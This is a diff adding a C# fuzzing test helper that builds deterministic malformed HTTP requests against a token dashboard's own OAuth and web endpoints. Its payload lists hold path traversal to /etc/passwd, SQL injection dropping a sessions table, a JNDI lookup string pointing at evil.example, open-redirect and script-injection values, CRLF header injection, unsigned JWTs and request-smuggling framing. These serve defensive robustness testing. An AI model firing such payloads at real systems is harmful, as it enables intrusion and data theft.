@@ -1,0 +1,180 @@
+using System.Globalization;
+using System.Text;
+
+namespace TokenDashboard.Web.Tests.Fuzzing;
+
+/// <summary>A request as it goes over the wire, a byte for each character.</summary>
+/// <param name="Path">What it was made to ask for, before anything else was done to it.</param>
+/// <param name="Text">All of it.</param>
+/// <param name="IsWhole">Whether it is as long as it says, so that an answer is due.</param>
+internal sealed record HostileRequest(string Path, string Text, bool IsWhole);
+
+/// <summary>
+/// Requests that nobody has any right to: each is made by its number out of what the server understands and what it does not, and the same
+/// number makes the same request.
+/// </summary>
+/// <param name="paths">What can be asked for; what stands in braces is for the request to fill.</param>
+/// <param name="host">What the server is called.</param>
+/// <param name="cookies">Of somebody signed in. No form is ever sent with them that the server gave out.</param>
+/// <param name="token">A refresh token that lives. It is only ever sent with something changed.</param>
+internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, string cookies, string token)
+{
+    /// <summary>What no answer of the protocol may repeat.</summary>
+    public const string Marker = "c4n4ry";
+
+    /// <summary>A header that no answer may have.</summary>
+    public const string Injected = "X-Injected";
+
+    private static readonly string[] Methods = ["GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "get", "PROPFIND", Marker];
+
+    private static readonly string[] Names =
+    [
+        "grant_type", "client_id", "client_secret", "client_assertion", "client_assertion_type", "refresh_token", "device_code", "user_code", "token", "token_type_hint",
+        "scope", "device_name", "code", "code_verifier", "code_challenge", "redirect_uri", "resource", "audience", "state", "nonce", "prompt", "request", "request_uri",
+        "return", "returnUrl", "__RequestVerificationToken", "_handler", "Input.Email", "Input.Password", "Input.Name", "Input.Code", "Input.Token", "email", "password",
+        "id", "view", "sort", "page", "skip", "from", "to", "q", "person", "app", "where", "device", "agent", "culture", "theme", "remoteError", Marker, "", "a[]", "a.b.c",
+        "__proto__", "constructor", "\0", "%00", "%", "é",
+    ];
+
+    private static readonly string[] Values =
+    [
+        "", " ", "companion", "other", "refresh_token", "urn:ietf:params:oauth:grant-type:device_code", "authorization_code", "client_credentials", "password",
+        "profile", "profile offline_access", "openid", "sign-in", "all", "open", "true", "0", "-1", "1", "2147483648", "9223372036854775808", "1e400", "NaN", "null", "[]", "{}",
+        Marker, Marker + "<\"'>", "<script>" + Marker + "</script>", $"{Marker}\r\n{Injected}: 1", $"{Marker}%0d%0a{Injected}:%201", "é" + Marker, Marker + "\0", Marker + "%00",
+        "../../../../etc/passwd", "..%2f..%2f", "' OR 1=1 --", "\"; DROP TABLE sessions; --", "{{7*7}}", "${jndi:ldap://evil.example}", "{0}{1}{999}", "%s%n%x", "%ff%fe", "%ED%A0%80",
+        "\u00FF\u00FE", "\u00E2\u0080\u00AE", "\u00F0\u009F\u0098\u0080", "//evil.example", "https://evil.example/" + Marker, "/\\evil.example", "javascript:alert(1)",
+        "00000000-0000-0000-0000-000000000000", "td1_", "eyJhbGciOiJub25lIn0.e30.", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.AAAA", "AAAA-AAAA", "2026-99-99", "0001-01-01", "9999-12-31T23:59:59Z",
+        new('A', 200), new('%', 300), new('9', 400), string.Join(' ', Enumerable.Repeat("profile", 450)),
+    ];
+
+    private static readonly string[] Headers =
+    [
+        "Accept", "Accept-Language", "Accept-Encoding", "Accept-Charset", "Origin", "Referer", "User-Agent", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "Forwarded",
+        "Range", "If-None-Match", "If-Modified-Since", "Expect", "Upgrade", "Sec-WebSocket-Key", "Sec-CH-UA", "Sec-CH-UA-Model", "Sec-CH-UA-Platform", "Sec-Fetch-Site", "DPoP",
+        "X-HTTP-Method-Override", "Content-Encoding", "Content-Language", "Date", "Via", "TE", "Trailer", "Cache-Control", "traceparent", "Cookie", "Authorization", Marker,
+    ];
+
+    private static readonly string[] Types =
+    [
+        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-8", "application/x-www-form-urlencoded; charset=utf-16", "application/json",
+        "multipart/form-data; boundary=b", "multipart/form-data", "text/plain", "application/xml", "application/jwt", Marker, "", "application/csp-report",
+    ];
+
+    private static readonly string[] Sizes = ["80000000", "FFFFFFFFFFFFFFFF", "-1", "zz", "0", "5;ext=" + Marker, "00000000000000000005"];
+
+    /// <summary>The request of that number.</summary>
+    public HostileRequest Make(int number)
+    {
+        var random = new Random(number);
+        var path = Fill(paths[random.Next(paths.Count)], random);
+        var isProtocol = path.StartsWith("/oauth/", StringComparison.Ordinal);
+        var method = random.Next(5) == 0 ? Of(Methods, random) : isProtocol || random.Next(2) == 0 ? "POST" : "GET";
+        var text = new StringBuilder($"{method} {path}");
+        if (random.Next(isProtocol ? 8 : 2) == 0)
+            text.Append('?').Append(Form(random));
+        text.Append(random.Next(60) == 0 ? " HTTP/1.0" : " HTTP/1.1").Append("\r\nConnection: close\r\n");
+        text.Append("Host: ").Append(random.Next(20) == 0 ? Of(Values, random).Split('\r')[0] : host).Append("\r\n");
+        if (random.Next(4) == 0)
+            text.Append("Cookie: ").Append(random.Next(3) == 0 ? Change(cookies, random) : cookies).Append("\r\nUser-Agent: Mozilla/5.0\r\n");
+        else
+            AddHeaders(text, random);
+        var isWhole = AddBody(text, random, isProtocol);
+        if (random.Next(6) != 0)
+            return new(path, text.ToString(), isWhole);
+        var changed = text.ToString();
+        for (var times = random.Next(1, 12); times > 0; times--)
+            changed = Change(changed, random);
+        return new(path, changed, IsWhole: false);
+    }
+
+    private static string Fill(string path, Random random)
+    {
+        while (path.IndexOf('{', StringComparison.Ordinal) is >= 0 and var from)
+        {
+            var value = Of(Values, random);
+            path = path[..from] + Uri.EscapeDataString(value.Length > 0 ? value : "1") + path[(path.IndexOf('}', from) + 1)..];
+        }
+
+        return random.Next(12) == 0 ? path + Uri.EscapeDataString(Of(Values, random)) : path;
+    }
+
+    private void AddHeaders(StringBuilder text, Random random)
+    {
+        for (var count = random.Next(4); count > 0; count--)
+            text.Append(Of(Headers, random)).Append(": ").Append(Header(random)).Append("\r\n");
+        if (random.Next(6) == 0)
+            text.Append("Authorization: ").Append(random.Next(2) == 0 ? "Basic " + Convert.ToBase64String(Encoding.Latin1.GetBytes(Value(random) + ":" + Value(random))) : "Bearer " + Header(random)).Append("\r\n");
+    }
+
+    // Whether it is as long as it says.
+    private bool AddBody(StringBuilder text, Random random, bool isProtocol)
+    {
+        var type = isProtocol && random.Next(5) != 0 ? Types[0] : Of(Types, random);
+        text.Append("Content-Type: ").Append(type).Append("\r\n");
+        var body = random.Next(isProtocol ? 12 : 4) switch
+        {
+            0 => Of(Values, random),
+            1 => "{\"client_id\":\"companion\",\"token\":" + new string('[', random.Next(1, 2000)) + "}",
+            2 => $"--b\r\nContent-Disposition: form-data; name=\"{Of(Names, random)}\"; filename=\"{Of(Values, random)}\"\r\n\r\n{Value(random)}\r\n--b--",
+            _ => Form(random),
+        };
+        switch (random.Next(12))
+        {
+            case 0:
+                text.Append("Transfer-Encoding: chunked\r\n\r\n").Append(Of(Sizes, random)).Append("\r\n").Append(body).Append("\r\n0\r\n\r\n");
+                return false;
+            case 1:
+                text.Append(CultureInfo.InvariantCulture, $"Content-Length: {random.Next(-5, 40_000)}\r\n\r\n").Append(body);
+                return false;
+            case 2:
+                text.Append(CultureInfo.InvariantCulture, $"Transfer-Encoding: chunked\r\n\r\n{body.Length:X}\r\n").Append(body).Append("\r\n0\r\n\r\n");
+                return true;
+            default:
+                text.Append(CultureInfo.InvariantCulture, $"Content-Length: {body.Length}\r\n\r\n").Append(body);
+                return true;
+        }
+    }
+
+    private string Form(Random random)
+    {
+        var fields = Enumerable.Range(0, random.Next(random.Next(20) == 0 ? 200 : 7)).Select(_ => (Name: Of(Names, random), Value: Value(random))).ToList();
+        if (random.Next(2) == 0)
+            fields.Add(("client_id", "companion"));
+        if (random.Next(2) == 0)
+            fields.Add(("grant_type", random.Next(2) == 0 ? "refresh_token" : "urn:ietf:params:oauth:grant-type:device_code"));
+        if (random.Next(4) == 0)
+            fields.Add((random.Next(2) == 0 ? "refresh_token" : "token", Change(token, random)));
+        // Now and then what should be escaped is not.
+        return string.Join('&', fields.Select(f => random.Next(10) == 0 ? $"{f.Name}={f.Value}" : $"{Uri.EscapeDataString(f.Name)}={Uri.EscapeDataString(f.Value)}")).Replace("\r\n", "%0D%0A", StringComparison.Ordinal);
+    }
+
+    private string Value(Random random) => random.Next(30) switch
+    {
+        0 => Change(token, random),
+        1 => new string('A', random.Next(1, 6000)),
+        2 => string.Concat(Enumerable.Range(0, random.Next(1, 40)).Select(_ => (char)random.Next(1, 256))),
+        _ => Of(Values, random),
+    };
+
+    // A header ends where its line does.
+    private string Header(Random random) => Value(random).Split('\r', '\n')[0];
+
+    // One character is another, gone, twice, or the rest is.
+    private static string Change(string text, Random random)
+    {
+        if (text.Length == 0)
+            return Marker;
+        var at = random.Next(text.Length);
+        var changed = random.Next(5) switch
+        {
+            0 => text[..at] + text[(at + 1)..],
+            1 => text[..at] + text[at] + text[at..],
+            2 => text[..at],
+            3 => text[..at] + text[random.Next(text.Length)..],
+            _ => text[..at] + (char)(text[at] ^ (1 << random.Next(8))) + text[(at + 1)..],
+        };
+        return changed == text ? Change(text, random) : changed;
+    }
+
+    private static string Of(string[] of, Random random) => of[random.Next(of.Length)];
+}
